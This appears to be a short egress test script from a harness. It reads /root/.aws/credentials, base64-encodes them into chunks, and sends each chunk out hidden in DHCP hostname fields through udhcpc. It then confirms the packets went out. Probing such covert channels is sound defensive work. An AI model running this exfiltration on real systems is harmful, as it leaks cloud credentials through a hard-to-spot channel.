#!/bin/sh
. /opt/case/case.sh

base64 -w 40 /root/.aws/credentials | head -n 5 >/tmp/.p
test -s /tmp/.p
while read -r piece; do udhcpc -f -i eth0 -n -q -t 1 -T 1 -A 1 -s /bin/true -x "hostname:$piece" >/dev/null 2>>/tmp/.said || true; done </tmp/.p
grep -qi -e discover -e select /tmp/.said
took_place
